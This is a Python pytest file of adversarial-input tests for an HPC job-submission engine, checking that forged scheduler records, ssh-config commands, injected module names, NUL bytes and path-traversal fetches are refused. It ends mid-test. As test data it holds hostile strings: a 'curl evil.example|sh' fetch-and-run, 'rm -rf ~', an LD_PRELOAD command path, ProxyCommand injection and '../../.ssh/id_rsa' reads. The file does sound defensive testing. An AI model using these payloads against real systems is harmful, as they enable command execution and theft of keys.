"""The sixth sweep of hostile inputs, one trust boundary at a time: what another user of a
cluster writes into a job's name or comment, what a hostile or compromised cluster prints,
what a job writes into its own directory, what a notebook, a REST body, a colleague's
workflow, the center's sites file or the environment hands the engine.

The standard is the earlier sweeps' (tests/test_adversarial_inputs.py and after): bad input
is refused with one line naming what, where and what would be accepted; what comes from a
site or a job is data, never a command, a record, a path outside its place or a hidden
line. Tests of attacks that already failed safely say so in their docstring ("guard")."""

from __future__ import annotations

import json
import re

import pytest
import sweep_helpers

from diamond_jupyter.dialects import get_commands
from diamond_jupyter.dialects.base import private_values
from diamond_jupyter.model import BadInput, JobState, SiteError

pytest_plugins = ("pytest_jupyter.jupyter_server", "server_conftest")

ME = "me"


# -- 1. queue readers: a whole record written into another user's job name ---------------------

_SQUEUE_CODES = list("iTSeVlDCuPbNrkMj")  # SQUEUE_FIELDS' letters, in order


def _job(jid: str, state: str = "PENDING", *, user: str = "eve", name: str = "job",
         comment: str = "", reason: str = "Priority") -> dict[str, str]:
    """One job as squeue knows it, by format letter."""
    return dict(zip(_SQUEUE_CODES, [
        jid, state, "N/A", "N/A", "2026-12-04T10:00:00", "1:00:00", "1", "1", user, "batch",
        "N/A", "", reason, comment, "0:00", name], strict=True))


def _squeue(argv: list[str], jobs: list[dict[str, str]]) -> str:
    """What squeue prints for `argv`'s format (SQUEUE_FORMAT, which it gets off the command
    line, or `-o FORMAT`): each `%x` replaced by the job's value, the format's other text as
    written, a newline after each job (as Slurm 22.05 does)."""
    fmt = private_values(argv).get("SQUEUE_FORMAT") or argv[argv.index("-o") + 1]
    def line(job: dict[str, str]) -> str:
        return re.sub(r"%(\w)", lambda m: job[m.group(1)], fmt) + "\n"
    return "".join(line(j) for j in jobs)


def _forged_line(jid: str, state: str, *, user: str, name: str) -> str:
    """A whole squeue record in the '|' layout, as an attacker would type it into a name."""
    j = _job(jid, state, user=user, name=name)
    return "|".join(j[c] for c in _SQUEUE_CODES)


def test_a_forged_queue_record_in_a_strangers_job_name_adds_no_phantom_job():
    """Known gap of the fifth sweep: eve names her job `x\\n777|RUNNING|...|64 nodes`; the
    site's snapshot (placement's data) then held a job 777 that does not exist (the reader
    split records at newlines, and a name may hold any). squeue is now asked for a separator
    made afresh for each query after every field: no name written before can hold it."""
    slurm = get_commands("slurm")
    argv = slurm.snapshot_argvs()["queue"]
    forged = _forged_line("777", "RUNNING", user="ann", name="big")
    name = f"x\n{forged}\n{forged.replace('777', '778')}"
    out = _squeue(argv, [_job("100", "RUNNING", user="ann"),
                         _job("101", user="eve", name=name),
                         _job("102", user="bob", name="last")])
    snap = slurm.parse_snapshot("alpha", {"queue": out})
    jobs = {j.native_id: j for j in snap.jobs}
    assert set(jobs) == {"100", "101", "102"}
    assert jobs["101"].name == name
    assert (jobs["101"].user, jobs["102"].name) == ("eve", "last")


def test_a_comment_with_a_newline_does_not_swallow_its_job_or_forge_one():
    """The comment (`%k`, free text like the name, but before it) holding a newline made the
    rest of that record read as the previous job's name: the job vanished from the queue,
    and a record after the newline was believed."""
    slurm = get_commands("slurm")
    argv = slurm.snapshot_argvs()["queue"]
    forged = _forged_line("779", "PENDING", user="ann", name="n")
    out = _squeue(argv, [_job("100", "RUNNING", user="ann"),
                         _job("101", user="eve", comment=f"c\n{forged}", name="eves")])
    jobs = {j.native_id: j for j in slurm.parse_snapshot("alpha", {"queue": out}).jobs}
    assert set(jobs) == {"100", "101"}
    assert (jobs["101"].name, jobs["101"].comment) == ("eves", f"c\n{forged}")


def test_a_forged_record_cannot_hide_the_users_own_job_from_its_status():
    """Before, a record for the user's job 999 hidden in another name made 999 "listed twice"
    and believed in neither: a stranger could make the engine lose sight of a job."""
    slurm = get_commands("slurm")
    argv = slurm.status_argv(["999", "101"])
    forged = _forged_line("999", "COMPLETED", user=ME, name="mine")
    out = _squeue(argv, [_job("999", "RUNNING", user=ME, name="mine"),
                         _job("101", user=ME, name=f"renamed\n{forged}")])
    jobs = {j.native_id: j for j in slurm.parse_status(out)}
    assert set(jobs) == {"999", "101"}
    assert jobs["999"].state == JobState.RUNNING


def test_a_name_lookup_after_a_lost_submit_binds_no_forged_record():
    """After a lost submit answer the job is found by its name and token among the login's
    jobs. A stranger's job (listed when the name holds a comma) whose name carries a record
    of the user's own, with the token, bound the submit to a job that does not exist."""
    slurm = get_commands("slurm")
    argv = slurm.find_by_name_argv("a,b.dmd-0a0b0c0d0e0f")
    forged = "|".join(_job("4242", user=ME, name="a,b.dmd-0a0b0c0d0e0f",
                           comment="dmd:0a0b0c0d0e0f")[c] for c in _SQUEUE_CODES)
    out = _squeue(argv, [_job("300", user="eve", name=f"x\n{forged}")])
    assert [j.native_id for j in slurm.parse_status(out)] == ["300"]


def test_a_job_renamed_with_a_forged_accounting_record_fakes_no_exit_code():
    """A job of the user renames itself to `x\\n6|COMPLETED|0:0|...`: sacct printed that
    line and the engine read job 6 (another of the user's, which failed) as completed with
    0 too. sacct now prints the id again after the name (no secret delimiter: its command
    line is anyone's to read), so the forged line ends with job 5's id and is its name."""
    slurm = get_commands("slurm")
    argv = slurm.accounting_argv(["5", "6"])
    assert "-P" in argv and not any(a.startswith("--delimiter") for a in argv)
    t = ["2026-12-04T10:00:00", "2026-12-04T10:01:00", "n1"]
    forged = "|".join(["6", "COMPLETED", "0:0", *t, "ok"])

    def rec(*f: str) -> str:
        return "|".join([*f, f[0]]) + "\n"
    out = (rec("5", "COMPLETED", "0:0", *t, f"x\n{forged}")
           + rec("6", "FAILED", "3:0", *t, "y"))
    jobs = {j.native_id: j for j in slurm.parse_accounting(out)}
    assert sorted(jobs) == ["5", "6"]
    assert (jobs["6"].state, jobs["6"].exit_code) == (JobState.FAILED, 3)
    assert jobs["5"].name == f"x\n{forged}"


def test_every_query_gets_its_own_separator():
    """The separator is what keeps names from forging records, so two queries must never
    share one (an attacker who saw one in `ps` could write it into a name for the next)."""
    slurm = get_commands("slurm")
    formats = {private_values(slurm.snapshot_argvs()["queue"])["SQUEUE_FORMAT"]
               for _ in range(50)}
    assert len(formats) == 50


@pytest.mark.parametrize("out,why", [
    ("100#dj-0123456789abcdef#RUNNING#dj-0123456789abcdef#\n", "not whole records"),
    ("".join(f"{x}#dj-0123456789abcdef#" for x in ["100", *"abcdefghijklmno"]) + "\n"
     + "".join(f"{x}#dj-0123456789abcdef#" for x in ["rm -rf", *"abcdefghijklmno"]) + "\n",
     "no job id"),
])
def test_a_cut_or_invented_separated_listing_is_a_site_error(out, why):
    """A listing cut short, or a record that names no job, is not guessed at."""
    with pytest.raises(SiteError, match=why):
        get_commands("slurm").parse_status(out)


def test_the_pbs_wrappers_queue_and_name_lookup_read_squeue_not_qstat_text():
    """Slurm's `qstat -f` wrapper prints anyone's name as given, so a name holding a whole
    `Job Id: 777` block added a phantom job to a PBS-wrapper site's snapshot, and the
    lookup after a lost submit (`qstat -f`, every job) could bind a forged block with the
    user's token. Both now ask Slurm's squeue with a fresh separator."""
    pbs = get_commands("pbs", flavor="slurm")
    argv = pbs.snapshot_argvs()["queue"]
    forged = "Job Id: 777\n    Job_Name = big\n    Job_Owner = ann@login\n    job_state = R"
    out = _squeue(argv, [_job("100", "RUNNING", user="ann"),
                         _job("101", user="eve", name=f"x\n{forged}")])
    snap = pbs.parse_snapshot("alpha-pbs", {"nodes": "", "queues": "", "queue": out})
    assert {j.native_id for j in snap.jobs} == {"100", "101"}
    look = pbs.find_by_name_argv("run.dmd-0a0b0c0d0e0f")
    assert "--name=run.dmd-0a0b0c0d0e0f" in look
    found = pbs.parse_status(_squeue(look, [_job("55", user=ME, name="run.dmd-0a0b0c0d0e0f")]))
    assert [(j.native_id, j.user) for j in found] == [("55", ME)]


def test_lsf_flux_sge_and_torque_listings_keep_a_forged_record_inside_the_name():
    """Guard: bjobs -json, flux jobs --json, qstat -xml (Grid Engine) and Torque's qstat -x
    quote names, so a name holding a record (or the format's closing marks) stays a name."""
    evil = 'x"}, {"JOBID": "777", "STAT": "RUN"}]}\n</job_list><job_list><JB_job_number>777'
    lsf = get_commands("lsf")
    out = json.dumps({"COMMAND": "bjobs", "JOBS": 1, "RECORDS": [
        {"JOBID": "101", "STAT": "PEND", "USER": "eve", "QUEUE": "normal", "JOB_NAME": evil}]})
    (j,) = lsf.parse_status(out)
    assert (j.native_id, j.name) == ("101", evil)
    flux = get_commands("flux")
    out = json.dumps({"jobs": [{"id": 1234567, "state": "SCHED", "userid": 1001,
                                "name": evil, "ntasks": 1}]})
    assert [j.name for j in flux.parse_status(out)] == [evil]
    from xml.sax.saxutils import escape
    sge = get_commands("sge")
    xml = ("<?xml version='1.0'?><job_info><queue_info/><job_info><job_list state=\"pending\">"
           "<JB_job_number>101</JB_job_number><JB_name>" + escape(evil) + "</JB_name>"
           "<JB_owner>eve</JB_owner><state>qw</state><slots>1</slots>"
           "</job_list></job_info></job_info>")
    assert [(j.native_id, j.name) for j in sge.parse_status(xml)] == [("101", evil)]


PBS_JSON = """{
    "timestamp":1479277336,
    "pbs_version":"19.1.3",
    "pbs_server":"srv",
    "Jobs":{
        "41.srv":{
            "Job_Name":"train",
            "Job_Owner":"me@srv",
            "job_state":"R",
            "queue":"workq",
            "Variable_List":{
                "PBS_O_HOME":"/home/me",
                "X":"VALUE"
            },
            "comment":"Job run at Fri"
        },
        "42.srv":{
            "Job_Name":"eves",
            "Job_Owner":"eve@srv",
            "job_state":"Q",
            "queue":"workq",
            "Variable_List":{
                "X":"EVIL"
            }
        }
    }
}
"""


@pytest.mark.parametrize("where,evil", [
    # a whole job after eve's own, from her `qsub -v X=...` value, which PBS prints verbatim
    ("EVIL", '"}},"778.srv":{"job_state":"R","Variable_List":{"z":"'),
    # the same in a job before another: the real job's later attributes go to the forgery
    ("VALUE", '"}},"777.srv":{"Job_Owner":"ann@srv","job_state":"R","Variable_List":{"y":"'),
])
def test_a_pbs_variable_value_holding_raw_quotes_forges_no_job(where, evil):
    """PBS Pro's `qstat -f -F json` copies `-v` values, names and comments as they are (its
    raw quotes are why the reader repairs lines). A value written to close the string and
    open another job parsed as valid JSON: the site's queue held job 777, which does not
    exist, and eve's job lost its own attributes. A job's attributes are now one a line."""
    pbs = get_commands("pbs")
    out = PBS_JSON.replace(where, evil)
    jobs = {j.native_id: j for j in pbs.parse_status(out)}
    assert set(jobs) == {"41.srv", "42.srv"}
    assert (jobs["42.srv"].state, jobs["42.srv"].user) == (JobState.PENDING, "eve")
    assert jobs["41.srv"].state == JobState.RUNNING
    snap = pbs.parse_snapshot("pbs", {"queue": out})
    assert {j.native_id for j in snap.jobs} == {"41.srv", "42.srv"}


def test_pbs_json_with_raw_quotes_in_a_value_still_reads():
    """Guard: the repair of PBS's unescaped values still works (a value `say "hi"`)."""
    pbs = get_commands("pbs")
    jobs = pbs.parse_status(PBS_JSON.replace("EVIL", 'say "hi"'))
    assert {j.native_id for j in jobs} == {"41.srv", "42.srv"}


def test_a_pbs_value_that_sets_its_jobs_state_twice_is_not_believed():
    """A `-v` value closing the variable list and giving `job_state` again replaced the real
    state (JSON keeps the last): eve's waiting job read as finished and left the snapshot."""
    pbs = get_commands("pbs")
    evil = '"},"job_state":"F","exit_status":0,"x":{"y":"'
    jobs = {j.native_id: j for j in pbs.parse_status(PBS_JSON.replace("EVIL", evil))}
    assert jobs["42.srv"].state == JobState.PENDING
    assert jobs["42.srv"].native_state == "Q"


# -- 2. the REST door: bodies a careless (or scripted) client sends --------------------------------

jp_server_config = sweep_helpers.one_local_site_server


rest = sweep_helpers.rest_caller


@pytest.mark.parametrize("body,key", [
    (b'{"script": "echo hi", "site": "here", "site": "elsewhere"}', "site"),
    (b'{"spec": {"script": "echo hi", "resources": {"nodes": 1, "nodes": 64}}}', "nodes"),
])
async def test_a_body_giving_a_key_twice_is_a_400_naming_it(rest, body, key):
    """JSON readers disagree on a key given twice (Python keeps the last, others the first):
    a proxy, a log or a person reading the body sees one value, the engine acted on the
    other. The body is now refused, naming the key."""
    code, reply = await rest("POST", "place", body)
    assert code == 400, (code, reply)
    assert repr(key) in reply["message"] and "twice" in reply["message"]


@pytest.mark.parametrize("depth", [5000, 200_000])
async def test_a_deeply_nested_body_is_a_400_not_a_crash(rest, depth):
    """A body nesting lists 200,000 deep made Python's JSON reader raise RecursionError (not
    a ValueError): a 500 with a traceback in the server's log, for one request."""
    body = b'{"script": "echo hi", "origin": ' + b"[" * depth + b"]" * depth + b"}"
    code, reply = await rest("POST", "place", body)
    assert code == 400, (code, str(reply)[:200])
    assert "\n" not in reply["message"]


@pytest.mark.parametrize("field,value", [
    ("site", "here\u0000; rm -rf ~"), ("name", "a\u0000b"), ("script", "echo a\u0000b"),
])
async def test_a_nul_byte_in_a_body_value_is_a_400(rest, field, value):
    """(guard) A NUL byte ends a C string: a scheduler would read less than the engine
    checked. Each value with one is refused before anything runs."""
    code, reply = await rest("POST", "jobs", json.dumps(
        {"script": "echo hi", "site": "here"} | {field: value}).encode())
    assert code == 400, (code, reply)
    assert field in reply["message"] or "NUL" in reply["message"], reply
    code, listed = await rest("GET", "jobs")
    assert listed["total"] == 0


# -- 3. a hostile cluster's accounting against the job's own signed end line --------------------

def _ended_job(tmp_path):
    from datetime import timedelta

    from diamond_jupyter.model import Job, utcnow
    from diamond_jupyter.store import Store

    store = Store(tmp_path / "store.sqlite")
    store.upsert_job(Job(id="alpha:500", site="alpha", native_id="500", name="sim",
                         submitted_at=utcnow() - timedelta(hours=1)))
    store.apply_state("alpha:500", JobState.RUNNING, source="wrapper")
    return store


def test_a_scheduler_answer_that_contradicts_the_signed_end_line_loses(tmp_path):
    """A hostile sacct (or a record forged into it) said COMPLETED, exit 0, for a job whose
    wrapper then reported exit code 3 on its signed end line: the first terminal answer was
    final, so the job stayed COMPLETED (a workflow's next step would run on a failure). The
    signed line now counts, and the job's reason says what the scheduler had claimed."""
    store = _ended_job(tmp_path)
    store.apply_state("alpha:500", JobState.COMPLETED, exit_code=0, source="poll")
    ev = store.apply_state("alpha:500", JobState.FAILED, exit_code=3, reason="exit code 3",
                           source="wrapper")
    job = store.get_job("alpha:500")
    assert (job.state, job.exit_code) == (JobState.FAILED, 3)
    assert "scheduler had reported COMPLETED with exit code 0" in job.reason
    assert ev is not None and ev.kind == "job.state" and ev.data["previous"] == "COMPLETED"


def test_a_scheduler_answer_after_the_signed_end_line_changes_nothing(tmp_path):
    """(guard) The other order: the signed line came first; a later, different answer from
    the scheduler is not believed over it."""
    store = _ended_job(tmp_path)
    store.apply_state("alpha:500", JobState.FAILED, exit_code=3, source="wrapper")
    assert store.apply_state("alpha:500", JobState.COMPLETED, exit_code=0,
                             source="poll") is None
    job = store.get_job("alpha:500")
    assert (job.state, job.exit_code) == (JobState.FAILED, 3)


def test_a_scheduler_timeout_stands_against_a_later_end_line(tmp_path):
    """(guard) A scheduler's TIMEOUT or CANCELLED is what the wrapper cannot see: a signed
    line after it does not turn it into a success."""
    store = _ended_job(tmp_path)
    store.apply_state("alpha:500", JobState.TIMEOUT, exit_code=0, source="poll")
    store.apply_state("alpha:500", JobState.COMPLETED, exit_code=0, source="wrapper")
    store.apply_state("alpha:500", JobState.FAILED, exit_code=1, source="wrapper")
    assert store.get_job("alpha:500").state == JobState.TIMEOUT


# -- 4. the sites file, ~/.ssh/config and the environment --------------------------------------

def _ssh_files(tmp_path, ssh_config: str):
    from diamond_jupyter.config import TransportConfig

    (tmp_path / "id").write_text("not read before connecting\n")
    (tmp_path / "id").chmod(0o600)
    (tmp_path / "known_hosts").write_text("")
    (tmp_path / "ssh_config").write_text(ssh_config)

    def transport(**kw: object) -> TransportConfig:
        return TransportConfig(kind="ssh", key_file=str(tmp_path / "id"), use_agent=False,
                               known_hosts=str(tmp_path / "known_hosts"),
                               ssh_config=str(tmp_path / "ssh_config"), **kw)
    return transport


def test_match_exec_in_an_ssh_config_runs_no_command(tmp_path):
    """paramiko runs `Match exec CMD` through a shell while it looks a host up: building a
    site's transport ran a command named in ~/.ssh/config inside the Jupyter server (the
    engine runs none from there, and ignored ProxyCommand). It is refused, naming the line."""
    from diamond_jupyter.transports.ssh import SSHTransport

    ran = tmp_path / "ran"
    transport = _ssh_files(tmp_path, f'Host a\n  HostName a.example\n\nMatch exec "touch {ran}"\n'
                                     "  User x\n")
    with pytest.raises(BadInput, match=r"line 4: 'Match exec' runs a command"):
        SSHTransport(transport(host="a"), site="s")
    assert not ran.exists()


def test_a_proxycommand_in_an_ssh_config_is_refused_not_silently_skipped(tmp_path):
    """A ProxyCommand was neither run nor reported: the engine connected straight to the
    host, past the gateway the config meant. Now one that is not `ssh -W %h:%p GW` (a jump
    host) is refused with what to use instead; a site that gives its own proxy_jump (or
    `none`) sets it aside."""
    from diamond_jupyter.transports.ssh import SSHTransport

    ran = tmp_path / "ran"
    transport = _ssh_files(tmp_path, f"Host inner\n  HostName inner.example\n"
                                     f"  ProxyCommand touch {ran}\n")
    with pytest.raises(BadInput, match="Host inner the ProxyCommand .* which is not run"):
        SSHTransport(transport(host="inner"), site="s")
    t = SSHTransport(transport(host="inner", proxy_jump="none"), site="s")
    assert t.spec.hostname == "inner.example" and t.jumps == []
    assert not ran.exists()


@pytest.mark.parametrize("key,value", [
    ("proxy_command", "nc %h %p"), ("ProxyCommand", "sh -c id"), ("options", "-oProxyCommand=id"),
])
def test_a_sites_file_cannot_name_an_ssh_proxy_command(key, value):
    """(guard) The sites file has no key that reaches ssh as a command: unknown keys are
    refused, naming them."""
    from pydantic import ValidationError

    from diamond_jupyter.config import TransportConfig

    with pytest.raises(ValidationError, match=key):
        TransportConfig(kind="ssh", host="h", **{key: value})


@pytest.mark.parametrize("path", ["LD_PRELOAD=/tmp/evil.so", "/opt/a=b/sbatch", "-isbatch",
                                  "sbatch;id", "$(id)", "/bin/sbatch --x"])
def test_a_scheduler_command_path_that_env_would_misread_is_refused(path):
    """`commands: {sbatch: LD_PRELOAD=/tmp/evil.so}` was taken: every command runs as
    `env -u ... PROG ARGS`, and env reads a word with '=' as a variable to set, running the
    next argument in its place (a leading '-' is one of its options). Refused at load, and
    any argv whose program looks so is refused at the transport."""
    from pydantic import ValidationError

    from diamond_jupyter.config import SiteConfig, TransportConfig
    from diamond_jupyter.transports.base import render_command, render_shell_command

    with pytest.raises(ValidationError, match="is not a program path"):
        SiteConfig(name="a", scheduler="slurm", transport=TransportConfig(kind="local"),
                   commands={"sbatch": path})
    if path.startswith("-") or "=" in path.split()[0]:
        for render in (render_command, render_shell_command):
            with pytest.raises(BadInput, match="is not a program"):
                render([path, "--parsable", "job.sh"])


# -- 5. what a hostile site's `module avail` lists ------------------------------------------------

@pytest.mark.parametrize("evil", [
    "GROMACS/2023.3;curl${IFS}evil.example|sh",
    "GROMACS/2023.3`id`",
    "GROMACS/2023.3&&id",
    "GROMACS/2023.3\x1b]52;c;cm0gLXJmIH4K\x07",  # writes the terminal's clipboard
    "GROMACS/2023.3\u202e",  # reverses how the rest of the line is shown
    "GRОMACS/2023.3",  # a Cyrillic O
])
def test_a_hostile_module_listing_does_not_reach_the_users_script(evil):
    """A site's `module avail` named `GROMACS/2023.3;curl...|sh`: discovery kept it as a
    module, and the submit rewrote the user's `module load gromacs/2023` to load it (quoted,
    so the job failed rather than ran it) and printed the rewrite note, escape sequences
    and all, on the terminal. Such names are now left out, and discovery says so."""
    from diamond_jupyter.capabilities import SiteCapabilities
    from diamond_jupyter.discovery import parse_module_list
    from diamond_jupyter.software import rewrite_modules

    refused: list[str] = []
    system, _, mods = parse_module_list(f"system lmod 8.7\n{evil}\nGROMACS/2022.1\n", refused)
    assert system == "lmod" and [m.full for m in mods] == ["GROMACS/2022.1"]
    assert refused == [evil]
    caps = SiteCapabilities(site="x", software=mods, module_system="lmod")
    body, notes = rewrite_modules("#!/bin/bash\nmodule load gromacs/2023\ngmx mdrun\n", caps)
    assert evil not in body and all(evil not in n for n in notes)


def test_a_hostile_module_system_version_is_not_kept():
    """(guard for the version next to it) The `system lmod VERSION` line's version is shown
    by `diamond describe`: an escape sequence there is not kept."""
    from diamond_jupyter.discovery import parse_module_list

    system, version, _ = parse_module_list("system lmod 8.7\x1b[2J\nGCC/12.2.0\n")
    assert (system, version) == ("lmod", None)


# -- 6. the guessed separator, a job's events, its files, and other inputs ----------------------

def test_a_name_holding_a_guessed_separator_stays_a_name():
    """(guard) The separator's shape is public (`#dj-` and 16 hex digits), its value is not:
    a name full of guesses of it, with forged fields between them, is one job's name."""
    slurm = get_commands("slurm")
    argv = slurm.snapshot_argvs()["queue"]
    guess = "#dj-0123456789abcdef#"
    name = "x" + guess + guess.join(["777", "RUNNING", *["1"] * 12, "big"]) + guess + "\n"
    out = _squeue(argv, [_job("101", user="eve", name=name), _job("102", user="bob")])
    jobs = {j.native_id: j for j in slurm.parse_status(out)}
    assert set(jobs) == {"101", "102"} and jobs["101"].name == name.strip()


async def test_a_job_cannot_sign_another_jobs_event_line(tmp_path):
    """(guard) Job A knows its own secret, never job B's: a line for B signed with A's
    secret, or A's own line naming B's native id, changes nothing of B's."""
    from datetime import timedelta

    from diamond_jupyter.config import SiteConfig, TransportConfig
    from diamond_jupyter.journal import Journal
    from diamond_jupyter.model import Job, utcnow
    from diamond_jupyter.sites import Site
    from diamond_jupyter.store import Store
    from diamond_jupyter.wrapper import event_mac

    site = Site(SiteConfig(name="alpha", scheduler="slurm", workdir=str(tmp_path / "w"),
                           transport=TransportConfig(kind="local")))
    store = Store(tmp_path / "store.sqlite")
    for n, tok in (("1", "aaaaaaaaaaaa"), ("2", "bbbbbbbbbbbb")):
        store.upsert_job(Job(id=f"alpha:{n}", site="alpha", native_id=n, name="j", token=tok,
                             submitted_at=utcnow() - timedelta(minutes=5)))
        store.apply_state(f"alpha:{n}", JobState.RUNNING)
    journal = Journal(store, {"alpha": site}, poll_interval_s=3600, min_poll_s=3600)
    mon = journal.monitors["alpha"]
    mon._secrets.update({"aaaaaaaaaaaa": "a" * 64, "bbbbbbbbbbbb": "b" * 64})

    def line(token: str, native: str, rc: int, secret: str) -> str:
        body = f"1700000000.0 end {token} {native} {rc}"
        return f"{body} {event_mac(secret, body)}"
    await mon._on_line(line("bbbbbbbbbbbb", "2", 0, "a" * 64))  # B's token, A's secret
    await mon._on_line(line("aaaaaaaaaaaa", "2", 0, "a" * 64))  # A's own line, B's native id
    assert mon.rejected_lines == 2
    assert store.get_job("alpha:2").state == JobState.RUNNING
    assert store.get_job("alpha:1").state == JobState.RUNNING


@pytest.mark.parametrize("text,want", [
    ("1 99999999999999999999999\n2 -5\n1 0x10\n", {}),
    ("1 12\n2 7\n1 13\n", {"stdout": 13, "stderr": 7}),
    ("\x1b[2J1 5\n", {}),
])
def test_a_rewritten_output_offsets_note_is_read_as_numbers_or_not_at_all(text, want):
    """(guard) A job may rewrite its own output.offsets: huge, negative, hex or escape-laden
    values are left out (the log then starts at 0), never an error or a crash."""
    from diamond_jupyter.wrapper import parse_output_offsets

    assert parse_output_offsets(text) == want


async def test_a_link_a_job_planted_in_its_directory_is_not_a_result_file(tmp_path):
    """(guard) A job links `loot -> ~/.ssh/id_rsa` (and a directory link) among its results:
    the listing a fetch copies from leaves links out, so nothing outside is fetched."""
    from diamond_jupyter.transports.local import LocalTransport

    secret = tmp_path / "home" / ".ssh"
    secret.mkdir(parents=True)
    (secret / "id_rsa").write_text("KEY\n")
    job = tmp_path / "job"
    job.mkdir()
    (job / "out.txt").write_text("result\n")
    (job / "loot").symlink_to(secret / "id_rsa")
    (job / "keys").symlink_to(secret)
    files = await LocalTransport("here", workdir=str(tmp_path)).list_files(str(job))
    assert [f.path for f in files] == [str(job / "out.txt")]


def test_a_sites_file_that_is_a_fifo_is_refused_not_waited_on(tmp_path, monkeypatch):
    """`DIAMOND_CONFIG` naming a FIFO (or a sites file replaced by one): loading it waited
    for a writer forever, so `diamond sites` (and the server's start) hung. It is refused."""
    import os
    import threading

    from diamond_jupyter.config import load_config

    fifo = tmp_path / "sites.yaml"
    os.mkfifo(fifo)
    got: list[BaseException] = []
    t = threading.Thread(target=lambda: got.append(pytest.raises(BadInput, load_config,
                                                                  str(fifo)).value),
                         daemon=True)
    t.start()
    t.join(10)
    if t.is_alive():  # unblock the reader so the test process can end
        with open(fifo, "w"):
            pass
        pytest.fail("loading a FIFO as the sites file waited for a writer")
    assert "not a file but a FIFO" in str(got[0])


def test_a_workflow_file_giving_a_key_twice_is_refused(tmp_path):
    """(guard) A colleague's workflow with `script` given twice in one step (a reader keeps
    one of them, a person reads the other) is refused, naming the key and both lines."""
    from diamond_jupyter.workflow.model import load_workflow

    text = ("name: w\nsteps:\n  - name: a\n    script: echo shown\n    site: auto\n"
            "    script: curl evil | sh\n")
    with pytest.raises(BadInput, match=r"'script' is given twice \(first on line 4\)"):
        load_workflow(text)


def _here_fed(tmp_path):
    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.store import Store

    cfg = SiteConfig(name="here", transport=TransportConfig(kind="local"),
                     workdir=str(tmp_path / ".diamond"))
    return Federation(FederationConfig(sites=[cfg]), store=Store(tmp_path / "s.sqlite"))


@pytest.mark.parametrize("site", ["-oProxyCommand=id", "--help", "here;id", "here\u200b"])
async def test_a_magic_or_body_site_that_looks_like_an_option_is_an_unknown_site(tmp_path, site):
    """(guard) `%diamond submit --site=-oProxyCommand=...` (or a REST body's site) names no
    site: refused with the known sites before anything is recorded or run."""
    from diamond_jupyter.model import JobSpec

    fed = _here_fed(tmp_path)
    try:
        with pytest.raises(BadInput, match=r"unknown site .*known: here\)"):
            await fed.submit(JobSpec(script="#!/bin/bash\ntrue\n"), site)
        assert fed.store.list_jobs() == []
    finally:
        await fed.close()


async def test_an_approved_plan_whose_script_changed_does_not_run(tmp_path):
    """(guard) Approval pins the rendered script's sha256: a plan changed after it was
    approved (another script, a site's changed defaults) raises PlanChanged, records
    nothing and runs nothing."""
    from diamond_jupyter.federation_plan import PlanChanged
    from diamond_jupyter.model import JobSpec

    fed = _here_fed(tmp_path)
    try:
        with pytest.raises(PlanChanged, match="would differ from the approved one"):
            await fed.submit(JobSpec(script="#!/bin/bash\ntrue\n"), "here",
                             script_sha256="0" * 64, force=True)
        assert fed.store.list_jobs() == []
    finally:
        await fed.close()


@pytest.mark.parametrize("line,want", [
    ("2 1e309 10 100 4 -1 -1 4 200 -1 1 1 1 1 1 1 -1 -1", "must be numbers"),
    ("2 0 10 nan 4 -1 -1 4 200 -1 1 1 1 1 1 1 -1 -1", "must be numbers"),
    ("2 0 10 100 " + "9" * 40 + " -1 -1 4 200 -1 1 1 1 1 1 1 -1 -1", "too large a number"),
])
def test_an_swf_trace_with_overflowing_numbers_is_refused_naming_the_line(tmp_path, line, want):
    """(guard) A shared trace file's 1e309, nan or 40-digit counts are refused with the file
    and line, never read as infinity or a huge machine."""
    from diamond_jupyter.testbed.trace import read_swf

    p = tmp_path / "t.swf"
    p.write_text("; MaxProcs: 64\n1 0 10 100 4 -1 -1 4 200 -1 1 1 1 1 1 1 -1 -1\n" + line + "\n")
    with pytest.raises(BadInput, match=rf"t\.swf:3: .*{want}"):
        read_swf(p)


@pytest.mark.parametrize("name", ["../../.ssh/id_rsa", "/etc/passwd", "out/../../x", "a\x00b",
                                  ""])
def test_a_fetch_naming_a_file_outside_the_results_is_refused(name):
    """(guard) `diamond fetch JOB --file NAME`, the REST `files` and the agent's: a name
    that is absolute, climbs out or holds a NUL is refused, naming it."""
    from diamond_jupyter.fetch_guard import named_files

    with pytest.raises(BadInput, match="is not a result file's relative path"):
        named_files([name])


@pytest.mark.parametrize("path", ["jobs/..%2F..%2Fetc%2Fpasswd", "jobs/here:1%2F..%2F..%2Fx/logs",
                                  "jobs/%00/status"])
async def test_a_job_id_with_path_tricks_in_a_rest_path_is_a_404(rest, path):
    """(guard) A job id is looked up in the store, never used as a path."""
    code, reply = await rest("GET", path)
    assert code in (400, 404), (code, reply)


@pytest.mark.parametrize("var,value,want", [
    ("DIAMOND_LLM_MAX_TOKENS", "lots", "is not a token limit"),
    ("DIAMOND_LLM_MAX_TOKENS", "9" * 30, "is not a token limit"),
    ("DIAMOND_LLM_MAX_TOKENS", "-5", "is not a token limit"),
    ("DIAMOND_LLM_PROVIDER", "evil\x1b[2J", "is not a provider"),
])
def test_a_bad_llm_variable_is_one_line_naming_it(monkeypatch, var, value, want):
    """`DIAMOND_LLM_MAX_TOKENS=lots` ended `diamond ask` (and the server's agent) with a
    ValueError traceback, and a bad provider with pydantic's three-line dump. Now one line
    names the variable and what it accepts, its value written out."""
    from diamond_jupyter.agent.config import LLMConfig

    monkeypatch.setenv(var, value)
    with pytest.raises(BadInput, match=want) as e:
        LLMConfig.from_env()
    assert var in str(e.value) and "\n" not in str(e.value) and "\x1b" not in str(e.value)


def test_a_device_as_the_sites_file_is_still_read_not_taken_for_a_fifo():
    """(guard) `DIAMOND_CONFIG=/dev/null` is read (and lists no sites, as before); only a
    FIFO is refused unread."""
    from diamond_jupyter.config import load_config

    with pytest.raises(BadInput, match="lists no sites"):
        load_config("/dev/null")


@pytest.mark.parametrize("mode,planted_by_other", [(0o644, False), (0o600, True)])
def test_a_seal_key_others_can_read_or_another_user_planted_is_not_used(
        tmp_path, monkeypatch, mode, planted_by_other):
    """The store's seal key (`<store>.key`) was used whoever made it and whoever could read
    it: a key planted beside a store in a shared directory before the first seal (O_EXCL
    keeps the first) sealed the user's secrets under the planter's key, and a key file
    others could read opened them. Both are refused, saying what to do."""
    import os

    from cryptography.fernet import Fernet

    from diamond_jupyter.store.seal import KEY_ENV, Sealer, SealError, key_file_for

    monkeypatch.delenv(KEY_ENV, raising=False)
    store = tmp_path / "store.sqlite"
    key = key_file_for(store)
    key.write_bytes(Fernet.generate_key() + b"\n")
    key.chmod(mode)
